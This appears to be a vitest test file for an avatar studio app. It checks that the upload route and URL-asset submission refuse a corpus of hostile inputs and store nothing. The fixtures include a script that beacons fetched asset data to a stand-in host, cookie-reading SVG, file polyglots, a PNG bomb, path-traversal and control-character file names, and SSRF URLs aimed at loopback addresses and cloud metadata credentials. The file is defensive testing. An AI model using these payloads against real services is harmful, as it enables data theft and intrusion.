import { randomUUID } from "node:crypto";
import { mkdir, mkdtemp, readdir, rm } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { AppError } from "@/lib/errors";
import { makeBombPng, makePng, makeVideo, makeWav } from "@/lib/media/test-media";

/**
 * A hostile-input corpus through the real upload route (`POST /api/uploads`) and the real
 * URL-asset path (the submit action). Every case must be refused with a clear message, and
 * afterwards nothing may be stored: no file under the storage folder, none beside it, and no
 * row in the database for the team.
 */

const session = vi.hoisted(() => ({ user: null as null | { id: string; teamId: string } }));
vi.mock("@/lib/auth/session", () => ({
  requireUser: async () => {
    if (!session.user) throw new AppError("UNAUTHENTICATED", "Your session has ended. Please sign in again.");
    return { ...session.user, email: "u@example.com", name: null, role: "CREATOR", teamName: "T" };
  },
  assertCan: () => {},
}));

let parent: string;
let root: string;
let POST: (request: Request) => Promise<Response>;
let submitAssetsAction: typeof import("@/lib/submissions/submit-assets.action").submitAssetsAction;
let prisma: typeof import("@/lib/db").prisma;
let teamId: string;
let userId: string;
const media: Record<string, Buffer> = {};

/** A minimal ZIP archive holding one stored file. */
function makeZip(name = "payload.html", content = "<html><script>alert(1)</script></html>"): Buffer {
  const data = Buffer.from(content);
  const fileName = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(local.length + fileName.length + data.length, 16);
  return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** A JPEG with a comment segment right after its start marker. */
function withJpegComment(jpeg: Buffer, comment: string): Buffer {
  const text = Buffer.from(comment);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, text, jpeg.subarray(2)]);
}

beforeAll(async () => {
  parent = await mkdtemp(path.join(os.tmpdir(), "avatar-studio-corpus-"));
  root = path.join(parent, "storage");
  await mkdir(root);
  Object.assign(process.env, {
    STORAGE_DIR: root,
    PUBLIC_BASE_URL: "https://studio.example.com",
    AUTH_SECRET: process.env.AUTH_SECRET ?? "x".repeat(40),
    SETTINGS_ENCRYPTION_KEY: process.env.SETTINGS_ENCRYPTION_KEY ?? "ab".repeat(32),
    // A provider on the internet: it could never fetch a private URL.
    UPSTREAM_BASE_URL: "https://provider.example.com",
    UPSTREAM_API_KEY: "sk-corpus-test",
  });
  ({ POST } = await import("@/app/api/uploads/route"));
  ({ submitAssetsAction } = await import("@/lib/submissions/submit-assets.action"));
  ({ prisma } = await import("@/lib/db"));
  const suffix = randomUUID().slice(0, 8);
  teamId = (await prisma.team.create({ data: { name: `Corpus ${suffix}` } })).id;
  userId = (await prisma.user.create({ data: { email: `corpus-${suffix}@example.com` } })).id;
  await prisma.membership.create({ data: { teamId, userId, role: "CREATOR" } });
  session.user = { id: userId, teamId };

  const jpeg = await sharp(makePng(640, 480, 7)).jpeg().toBuffer();
  const video = path.join(parent, "work.mp4");
  await makeVideo(video, { width: 1280, height: 720, fps: "24", seconds: 3 });
  const { readFile } = await import("node:fs/promises");
  media.mp4 = await readFile(video);
  await rm(video);
  media.jpeg = jpeg;
}, 120_000);

afterAll(async () => {
  await prisma.team.deleteMany({ where: { id: teamId } });
  await prisma.user.deleteMany({ where: { id: userId } });
  await rm(parent, { recursive: true, force: true });
});

function upload(name: string, body: Buffer, contentType = "application/octet-stream"): Promise<Response> {
  const url = new URL("https://studio.example.com/api/uploads");
  url.searchParams.set("name", name);
  return POST(
    new Request(url, {
      method: "POST",
      body: new Uint8Array(body),
      headers: { host: "studio.example.com", origin: "https://studio.example.com", "content-type": contentType },
      duplex: "half",
    } as RequestInit),
  );
}

const wavHeaderOnly = (() => {
  const header = makeWav(1).subarray(0, 44);
  header.writeUInt32LE(36, 4); // RIFF size: the header alone
  header.writeUInt32LE(0, 40); // data size: none
  return Buffer.from(header);
})();

const svgWithScript = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><script>alert(document.cookie)</script><rect width="400" height="400"/></svg>');
const html = Buffer.from("<!doctype html><html><body><script>fetch('/api/assets').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script></body></html>");
const png = (seed: number) => makePng(400, 400, seed);

type FileCase = [label: string, name: string, bytes: () => Buffer, contentType: string, status: number, message: RegExp];
const fileCases: FileCase[] = [
  ["zero bytes", "empty.png", () => Buffer.alloc(0), "image/png", 422, /The file is empty\./],
  ["random bytes named .png", "noise.png", () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251)), "image/png", 422, /not a real image/],
  ["a PDF named .png", "doc.png", () => Buffer.from("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"), "image/png", 422, /not a real image: its contents are a PDF file/],
  ["a ZIP named .png", "archive.png", () => makeZip(), "image/png", 422, /not a real image: its contents are a ZIP file/],
  ["a Windows program named .png", "setup.png", () => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(510, 0x90)]), "image/png", 422, /not a real image/],
  ["a GIF header named .mp4", "clip.mp4", () => Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(200, 1)]), "video/mp4", 422, /not a real video: its contents are a GIF image\./],
  ["a PNG named .wav", "voice.wav", () => png(11), "audio/wav", 422, /not a real audio file: its contents are a PNG image\./],
  ["PNG/ZIP polyglot", "polyglot.png", () => Buffer.concat([png(12), makeZip()]), "image/png", 422, /ZIP archive hidden in it/],
  ["PNG with data after its end", "trailer.png", () => Buffer.concat([png(13), Buffer.from("trailing bytes, not part of the picture")]), "image/png", 422, /other data after its end/],
  ["JPEG/HTML polyglot (comment segment)", "polyglot.jpg", () => withJpegComment(media.jpeg!, "<html><script>alert(1)</script></html>"), "image/jpeg", 422, /web page code \(<script…\)|web page code \(<html…\)/],
  ["JPEG with a script appended", "appended.jpg", () => Buffer.concat([withJpegComment(media.jpeg!, "x"), Buffer.from("<script>alert(1)</script>")]), "image/jpeg", 422, /web page code/],
  ["SVG with a script", "logo.svg", () => svgWithScript, "image/svg+xml", 422, /not a real|not accepted/],
  ["SVG with a script named .png", "logo.png", () => svgWithScript, "image/png", 422, /not a real image/],
  ["HTML renamed .png", "avatar.png", () => html, "image/png", 422, /not a real image/],
  ["HTML as itself", "index.html", () => html, "text/html", 422, /not a real|not accepted/],
  ["20000 × 20000 px PNG bomb", "bomb.png", () => makeBombPng(20_000), "image/png", 422, /20000×20000 px; each side must be 300–6000 px/],
  ["truncated MP4", "cut.mp4", () => media.mp4!.subarray(0, 3000), "video/mp4", 422, /could not be read|may be damaged|could not be read/],
  ["WAV header with no data", "silence.wav", () => wavHeaderOnly, "audio/wav", 422, /length could not be read|must be 2–15 s|may be damaged/],
  ["name with ../", "../../../etc/passwd.png", () => png(21), "image/png", 400, /folder path/],
  ["name with ..\\", "..\\..\\windows\\win.ini.png", () => png(22), "image/png", 400, /folder path/],
  ["name that is ..", "..", () => png(23), "image/png", 400, /folder path/],
  ["name with NUL", "avatar\u0000.png", () => png(24), "image/png", 400, /control characters/],
  ["name with a bell and an escape", "a\u0007b\u001b[31m.png", () => png(25), "image/png", 400, /control characters/],
  ["name with a line break", "line\nbreak.png", () => png(26), "image/png", 400, /control characters/],
  ["name with an RTL override", "photo\u202Egnp.exe", () => png(27), "image/png", 400, /reverse the direction of text/],
  ["name of 300 characters", `${"a".repeat(296)}.png`, () => png(28), "image/png", 400, /300 characters long; it may be at most 255/],
];

type UrlCase = [label: string, url: string, message: RegExp];
const privateMessage = /private, loopback or link-local address: the provider downloads URL assets from the internet and could never fetch it/;
const urlCases: UrlCase[] = [
  ["127.0.0.1", "http://127.0.0.1/avatar.png", privateMessage],
  ["127.0.0.1 with a port", "http://127.0.0.1:3000/files/t/x/y/a.png", privateMessage],
  ["[::1]", "http://[::1]/avatar.png", privateMessage],
  ["10.x", "http://10.0.0.8/avatar.png", privateMessage],
  ["192.168.x", "http://192.168.1.20/avatar.png", privateMessage],
  ["169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", privateMessage],
  ["0.0.0.0", "http://0.0.0.0:3000/avatar.png", privateMessage],
  ["IPv4-mapped loopback", "http://[::ffff:127.0.0.1]/avatar.png", privateMessage],
  ["loopback as one number", "http://2130706433/avatar.png", privateMessage],
  ["localhost", "http://localhost:3000/avatar.png", privateMessage],
  ["file:", "file:///etc/passwd", /Only http\(s\) URLs are accepted, not file: links/],
  ["data:", "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", /not data: links/],
  ["javascript:", "javascript:alert(1)", /not javascript: links/],
  ["credentials in the URL", "https://admin:hunter2@cdn.example.com/avatar.png", /Remove the user name and password/],
  ["user name in the URL", "https://token@cdn.example.com/avatar.png", /Remove the user name and password/],
];

async function everythingStored(): Promise<{ files: string[]; beside: string[]; uploads: number; submissions: number; assets: number; groups: number }> {
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  return {
    files: entries.filter((e) => e.isFile()).map((e) => path.relative(root, path.join(e.parentPath, e.name))),
    beside: (await readdir(parent)).filter((n) => n !== "storage"),
    uploads: await prisma.upload.count({ where: { teamId } }),
    submissions: await prisma.submission.count({ where: { teamId } }),
    assets: await prisma.asset.count({ where: { teamId } }),
    groups: await prisma.assetGroup.count({ where: { teamId } }),
  };
}

describe(`hostile input corpus (${fileCases.length} files through POST /api/uploads, ${urlCases.length} URL assets through the submit action)`, () => {
  it.each(fileCases)("refuses %s", async (_label, name, bytes, contentType, status, message) => {
    const response = await upload(name, bytes(), contentType);
    const body = (await response.json()) as { error: { code: string; message: string } };
    expect(response.status, body.error?.message).toBe(status);
    expect(body.error.message).toMatch(message);
    expect(body.error.message).not.toMatch(/ref [a-z0-9]+\)|Error:|at .*\.ts/);
  });

  it.each(urlCases)("refuses a URL asset at %s", async (_label, url, message) => {
    const result = await submitAssetsAction({
      target: { kind: "new", name: "Corpus group" },
      items: [{ source: "url", url, type: "IMAGE", name: "hostile" }],
    });
    const text = result.serverError ?? JSON.stringify(result.validationErrors ?? null);
    expect(result.data, text).toBeUndefined();
    expect(text).toMatch(message);
  });

  it("stored nothing: no file under the storage folder or beside it, no row for the team", async () => {
    expect(await everythingStored()).toEqual({ files: [], beside: [], uploads: 0, submissions: 0, assets: 0, groups: 0 });
  });

  it("still takes a good file and a public URL (the refusals are not a broken route)", async () => {
    const response = await upload("good.png", png(99), "image/png");
    expect(response.status).toBe(201);
    const result = await submitAssetsAction({
      target: { kind: "new", name: "Corpus control" },
      items: [{ source: "url", url: "https://cdn.example.com/avatar.png", type: "IMAGE", name: "fine" }],
    });
    expect(result.serverError).toBeUndefined();
    expect(result.data?.submissions).toHaveLength(1);
  });

  it("lets private URL assets through when the team's provider is itself on a private address", async () => {
    await prisma.teamSettings.create({ data: { teamId, upstreamBaseUrl: "http://127.0.0.1:9" } });
    try {
      const result = await submitAssetsAction({
        target: { kind: "new", name: "Corpus simulator" },
        items: [{ source: "url", url: "http://127.0.0.1:4010/avatar.png", type: "IMAGE", name: "local" }],
      });
      expect(result.serverError).toBeUndefined();
      // Link-local stays refused even then.
      const metadata = await submitAssetsAction({
        target: { kind: "new", name: "Corpus simulator" },
        items: [{ source: "url", url: "http://169.254.169.254/latest/meta-data/", type: "IMAGE", name: "meta" }],
      });
      expect(metadata.data).toBeUndefined();
      expect(metadata.serverError ?? JSON.stringify(metadata.validationErrors)).toMatch(privateMessage);
    } finally {
      await prisma.teamSettings.delete({ where: { teamId } });
    }
  });
});

// Files written beside the storage folder would be a traversal: also check the temp folder's parent has nothing named after the corpus.
afterAll(async () => {
  const strays = (await readdir(os.tmpdir())).filter((n) => /^(passwd|win\.ini|avatar\.png|good\.png)$/.test(n));
  expect(strays).toEqual([]);
});
